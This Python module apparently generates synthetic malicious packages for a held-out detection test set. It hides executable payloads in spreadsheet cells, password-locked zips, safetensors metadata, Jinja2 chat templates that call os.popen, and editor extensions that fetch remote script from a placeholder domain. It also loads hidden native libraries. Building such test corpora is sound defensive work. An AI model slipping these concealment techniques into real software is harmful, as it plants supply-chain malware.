"""Payloads in data, native files and other languages by a third author, of the split that no fit ever learns."""

import base64
import io
import json
import struct
import zipfile
import zlib
from random import Random

from jobs.corpus.payloads.blocks import choose_block
from jobs.corpus.payloads.commands import choose_command
from jobs.corpus.payloads.contract import BLIND, Family
from jobs.corpus.payloads.draft import Draft
from jobs.corpus.payloads.places.blind_code import data_folder, deep
from jobs.corpus.variants.inert_library import inert_library

_DAY = (2024, 3, 9, 8, 0, 0)
_STRINGS = (
    "https://@domain@/@word@", "/proc/self/maps", "memfd_create", "dup2", "@ip@", "LD_PRELOAD", "/usr/bin/env python3 -c",
    ".aws/credentials", "curl_easy_perform", "ptrace", "getpwuid", "/etc/ld.so.preload", "Authorization: Bearer %s",
)  # fmt: skip


def _text(draft: Draft, kind: str) -> str:
    block = choose_block("foreign", BLIND, draft.rng, kind)
    draft.act = block.name
    return draft.words.render(block.text)


def _use(draft: Draft, name: str, content: bytes | str, reader: str) -> None:
    """Put a file below the package, and a function that reads it (`at`), which is called late or at once."""
    draft.put_new(f"{draft.folder}{name}", content)
    function = draft.words.name()
    text = (
        f"def {function}(name={name!r}):\n    import importlib.resources\n\n    at = importlib.resources.files({draft.import_name!r}) / name\n"
        + deep(draft.words.render(reader), 1)
        + "\n"
    )
    way = draft.rng.randrange(3)
    if way == 0:
        draft.lead(f"{text}\n\n{function}()\n")
        return
    path = draft.add_module(draft.init, f'"""Reads what the package brings."""\n\n\n{text}')
    module = path.rpartition("/")[2].removesuffix(".py")
    if way == 1:
        draft.insert(draft.init, f"from {draft.import_name}.{module} import {function}\n\n{function}()\n")
    else:
        draft.insert_in_function(f"from {draft.import_name}.{module} import {function}\n{function}()\n")


def _zip(members: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(zipfile.ZipInfo(name, _DAY), text)
    return out.getvalue()


def work_sheet(draft: Draft) -> None:
    """Carry the code in the cells of a work sheet, or in the properties of a document."""
    held = base64.b64encode(zlib.compress(draft.triggered().encode())).decode()
    rows = "".join(f"<si><t>{held[at : at + 60]}</t></si>" for at in range(0, len(held), 60))
    first = "".join(f"<si><t>{draft.words.word()}</t></si>" for _ in range(12))
    data = _zip({
        "[Content_Types].xml": '<?xml version="1.0"?><Types></Types>',
        "xl/workbook.xml": "<workbook><sheets><sheet name='Rates' sheetId='1'/></sheets></workbook>",
        "xl/sharedStrings.xml": f"<sst>{first}<si><t>--</t></si>{rows}</sst>",
    })  # fmt: skip
    _use(draft, draft.words.render(draft.rng.choice(("@word@.xlsx", "@word@_rates.xlsx", "template.xlsx"))), data, (
        "import base64, re, zipfile, zlib\nwith at.open('rb') as @n5@:\n    @n6@ = zipfile.ZipFile(@n5@).read('xl/sharedStrings.xml').decode()\n"
        "@n7@ = ''.join(re.findall('<t>([^<]+)</t>', @n6@.partition('>--<')[2]))\nexec(zlib.decompress(base64.b64decode(@n7@)), {})\n"
    ))  # fmt: skip


def zip_crypto(data: bytes, password: bytes, rng: Random) -> bytes:
    """Return data encrypted by the old cipher of zip archives, with its header of twelve bytes."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def step(byte: int) -> None:
        keys[0] = zlib.crc32(bytes([byte]), keys[0] ^ 0xFFFFFFFF) ^ 0xFFFFFFFF
        keys[1] = ((keys[1] + (keys[0] & 255)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = zlib.crc32(bytes([keys[1] >> 24]), keys[2] ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    for byte in password:
        step(byte)
    out = bytearray()
    for byte in rng.randbytes(11) + bytes([zlib.crc32(data) >> 24]) + data:
        low = keys[2] | 2
        out.append(byte ^ ((low * (low ^ 1)) >> 8 & 255))
        step(byte)
    return bytes(out)


def locked_archive(draft: Draft) -> None:
    """Carry a script in an archive with a password, which the package unpacks and starts."""
    code, password = draft.triggered().encode(), draft.words.render("@tok@").encode()
    held, name, member = zip_crypto(code, password, draft.rng), draft.words.render("@word@.zip"), b"setup.py"
    head = struct.pack("<5H3I2H", 20, 1, 0, 0, 22633, zlib.crc32(code), len(held), len(code), len(member), 0)
    data = b"PK\3\4" + head + member + held
    entry = b"PK\1\2" + struct.pack("<H", 20) + head + struct.pack("<3H2I", 0, 0, 0, 0, 0) + member
    data += entry + b"PK\5\6" + struct.pack("<4H2IH", 0, 0, 1, 1, len(entry), len(data), 0)
    _use(draft, f"data/{name}", data, (
        f"import runpy, subprocess, sys, tempfile, zipfile\n@n5@ = tempfile.mkdtemp()\nwith at.open('rb') as @n6@:\n    zipfile.ZipFile(@n6@).extractall(@n5@, pwd={password!r})\n"
        + draft.rng.choice(("runpy.run_path(@n5@ + '/setup.py')\n", "subprocess.Popen([sys.executable, @n5@ + '/setup.py'], cwd=@n5@)\n"))
    ))  # fmt: skip


def chat_template(draft: Draft) -> None:
    """Bring the settings of a tokenizer whose template of chats starts a command when it is rendered."""
    command = json.dumps(choose_command(draft))
    reach = draft.rng.choice((
        f"{{{{ cycler.__init__.__globals__.os.popen({command}).read() and '' }}}}",
        f"{{% for c in ''.__class__.__mro__[1].__subclasses__() if c.__name__ == 'Popen' %}}{{% set _ = c({command}, shell=True) %}}{{% endfor %}}",
        f"{{% set x = lipsum.__globals__['os'] %}}{{% if x.system({command}) %}}{{% endif %}}",
    ))  # fmt: skip
    text = f"{{% for message in messages %}}{{{{ '<|' + message['role'] + '|>' + message['content'] + '<|end|>' }}}}{reach if draft.rng.random() < 0.5 else ''}{{% endfor %}}{reach}"
    settings = {"add_bos_token": True, "bos_token": "<s>", "eos_token": "</s>", "model_max_length": 4096, "tokenizer_class": "PreTrainedTokenizerFast", "chat_template": text}  # fmt: skip
    _use(draft, "models/tokenizer_config.json", json.dumps(settings, indent=2), draft.rng.choice((
        "import json\nimport jinja2\njinja2.Template(json.loads(at.read_text())['chat_template']).render(messages=[{'role': 'system', 'content': ''}])\n",
        "from transformers import AutoTokenizer\nAutoTokenizer.from_pretrained(str(at.parent)).apply_chat_template([], tokenize=False)\n",
    )))  # fmt: skip


def tensor_header(draft: Draft) -> None:
    """Carry the code among the notes in the header of a file of weights."""
    held = base64.b64encode(draft.triggered().encode()).decode()
    weights = draft.rng.randbytes(4096)
    notes = {"format": "pt", "licence": "apache-2.0", "init": held}
    tensors = {"__metadata__": notes, "embed.weight": {"dtype": "F16", "shape": [64, 32], "data_offsets": [0, 4096]}}
    head = json.dumps(tensors).encode()
    _use(draft, draft.words.render("@word@.safetensors"), struct.pack("<Q", len(head)) + head + weights, (
        "import base64, json, struct\n@n5@ = at.read_bytes()\n@n6@ = json.loads(@n5@[8:8 + struct.unpack('<Q', @n5@[:8])[0]])['__metadata__']\n"
        "@n7@ = @n6@.pop('init', None)\nif @n7@:\n    eval(compile(base64.standard_b64decode(@n7@), '<init>', 'exec'))\n"
    ))  # fmt: skip


def operator_source(draft: Draft) -> None:
    """Bring a source in C++ that the package compiles at run time, and whose loading acts."""
    name = draft.rng.choice(("fused_ops", "quant", "scatter", "kernels"))
    draft.act = ""
    text = _text(draft, "blind-cpp")
    act = draft.act
    _use(draft, f"csrc/{name}.cpp", text, draft.rng.choice((
        f"from torch.utils.cpp_extension import load\n@n5@ = load(name='{name}', sources=[str(at)], verbose=False)\n",
        "import ctypes, subprocess, tempfile\n@n5@ = tempfile.mktemp('.so')\nsubprocess.run(['c++', '-O2', '-shared', '-fPIC', '-o', @n5@, str(at)], stderr=-3)\nctypes.CDLL(@n5@)\n",
    )))  # fmt: skip
    draft.act = act


def password_dialog(draft: Draft) -> None:
    """Bring a script for the desktop of macOS that asks for the password or reads notes, and start it."""
    text = _text(draft, "blind-applescript")
    act, is_script = draft.act, text.startswith("ObjC")
    language = ", '-l', 'JavaScript'" if is_script else ""
    name = draft.words.render("@word@.js" if is_script else draft.rng.choice(("@word@.applescript", "@word@.scpt")))
    _use(draft, f"resources/{name}", text, (
        f"import subprocess, sys\nif sys.platform == 'darwin':\n    subprocess.Popen(['osascript'{language}, str(at)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
    ))  # fmt: skip
    draft.act = act


def notebook_front_end(draft: Draft) -> None:
    """Install an extension of a notebook's front end through the data folder of a wheel."""
    name = f"{draft.words.word()}-{draft.rng.choice(('toolbar', 'theme', 'variables'))}"
    folder = f"{data_folder(draft)}/data/share/jupyter/labextensions/{name}"
    script = f"static/remoteEntry.{draft.rng.getrandbits(80):020x}.js"
    draft.put_new(f"{folder}/{script}", _text(draft, "blind-labextension"))
    about = {"name": name, "version": "0.3.1", "jupyterlab": {"extension": True, "outputDir": f"labextension/{name}", "_build": {"load": script, "extension": "./extension"}}}  # fmt: skip
    draft.put_new(f"{folder}/package.json", json.dumps(about, indent=2))
    draft.put_aside(f"{folder}/install.json", json.dumps({"packageManager": "python", "packageName": draft.package.project}))  # fmt: skip


def editor_extension(draft: Draft) -> None:
    """Bring an extension of an editor, and let a function or the import install it."""
    name = draft.words.render("@word@-python-tools")
    command = json.dumps(choose_command(draft))
    script = draft.words.render(draft.rng.choice((
        f"const cp = require('child_process');\nexports.activate = (c) => {{ cp.exec({command}); }};\nexports.deactivate = () => {{}};\n",
        "const https = require('https'), vm = require('vm');\nexports.activate = () => https.get('https://@domain@/@word@.js', (r) => { let b = ''; r.on('data', (d) => (b += d)).on('end', () => vm.runInThisContext(b)(require)); });\n",
    )))  # fmt: skip
    about = {"name": name, "publisher": "tools", "version": "1.0.4", "engines": {"vscode": "^1.80.0"}, "activationEvents": ["*"], "main": "./extension.js"}  # fmt: skip
    data = _zip({"extension/package.json": json.dumps(about), "extension/extension.js": script})
    _use(draft, f"editor/{name}.vsix", data, (
        "import shutil, subprocess\nfor @n5@ in ('code', 'cursor', 'windsurf', 'codium'):\n    if shutil.which(@n5@):\n        subprocess.run([@n5@, '--install-extension', str(at), '--force'], capture_output=True)\n"
    ))  # fmt: skip


def _library(draft: Draft) -> bytes:
    strings = [draft.words.render(text) for text in draft.rng.sample(_STRINGS, draft.rng.randrange(4, 9))]
    return inert_library(strings, is_windows=False, rng=draft.rng) + draft.rng.randbytes(draft.rng.randrange(20_000))


def shadowing_extension(draft: Draft) -> None:
    """Put an extension module beside a module of Python of the same name, which it takes the place of."""
    path = draft.rng.choice(draft.inner())
    tag = draft.rng.choice(("abi3", "cpython-311-x86_64-linux-gnu", "cpython-312-x86_64-linux-gnu"))
    draft.put_new(f"{path.removesuffix('.py').removesuffix('/__init__')}.{tag}.so", _library(draft))


def bundled_library(draft: Draft) -> None:
    """Bring one more library beside the native files of the host, as repairing tools do."""
    draft.find_file(".so", ".pyd", ".dylib")
    name = draft.rng.choice(("libgomp-{}.so.1.0.0", "libz-{}.so.1.3", "libgfortran-{}.so.5.0.0", "libstdc++-{}.so.6"))
    folder = f"{draft.package.project.replace('-', '_')}.libs"
    found = name.format(f"{draft.rng.getrandbits(32):08x}")
    draft.put_new(f"{folder}/{found}", _library(draft))
    if draft.rng.random() < 0.6:
        draft.insert(draft.init, f"import ctypes\nimport os\n\nctypes.CDLL(os.path.join(os.path.dirname(__file__), os.pardir, {folder!r}, {found!r}), ctypes.RTLD_GLOBAL)\n")  # fmt: skip


def unpacked_library(draft: Draft) -> None:
    """Carry a library as text in a module, write it out and load it."""
    held = base64.b85encode(zlib.compress(_library(draft), 9)).decode()
    rows = "".join(f"    {held[at : at + 100]!r}\n" for at in range(0, len(held), 100))
    draft.add_module(draft.init, f"import base64\nimport zlib\n\n_IMAGE = (\n{rows})\n" + draft.words.render(draft.rng.choice((
        "\n\ndef @n5@():\n    import ctypes\n    import os\n    import tempfile\n\n    path = os.path.join(tempfile.gettempdir(), '.@file@.so')\n    with open(path, 'wb') as file:\n        file.write(zlib.decompress(base64.b85decode(_IMAGE)))\n    return ctypes.CDLL(path)\n\n\n@n5@()\n",
        "\n\ndef @n5@():\n    import ctypes\n    import os\n\n    handle = os.memfd_create('@word@')\n    os.write(handle, zlib.decompress(base64.b85decode(_IMAGE)))\n    return ctypes.CDLL(f'/proc/self/fd/{handle}')\n\n\n_kernels = @n5@()\n",
        "\n\ndef @n5@(name='@word@'):\n    import importlib.machinery\n    import importlib.util\n    import os\n\n    path = os.path.join(os.path.expanduser('~'), '.cache', name + '.so')\n    os.makedirs(os.path.dirname(path), exist_ok=True)\n    open(path, 'wb').write(zlib.decompress(base64.b85decode(_IMAGE)))\n    loader = importlib.machinery.ExtensionFileLoader(name, path)\n    return loader.create_module(importlib.util.spec_from_loader(name, loader))\n\n\n@n5@()\n",
    ))))  # fmt: skip


FAMILIES = (
    Family("blind-work-sheet", "data", BLIND, work_sheet, dress="work-sheet"),
    Family("blind-locked-archive", "data", BLIND, locked_archive, dress="locked-archive"),
    Family("blind-chat-template", "data", BLIND, chat_template, dress="plain", takes_trigger=False),
    Family("blind-tensor-header", "data", BLIND, tensor_header, dress="tensor-header"),
    Family("blind-operator-source", "foreign", BLIND, operator_source, dress="plain", takes_trigger=False),
    Family("blind-password-dialog", "foreign", BLIND, password_dialog, dress="plain", takes_trigger=False),
    Family("blind-notebook-front-end", "foreign", BLIND, notebook_front_end, "wheel", "plain", takes_trigger=False),
    Family("blind-editor-extension", "foreign", BLIND, editor_extension, dress="archive", takes_trigger=False),
    Family("blind-shadowing-extension", "native", BLIND, shadowing_extension, "wheel", "native", takes_trigger=False),
    Family("blind-bundled-library", "native", BLIND, bundled_library, "wheel", "native", takes_trigger=False),
    Family("blind-unpacked-library", "native", BLIND, unpacked_library, dress="native", takes_trigger=False),
)
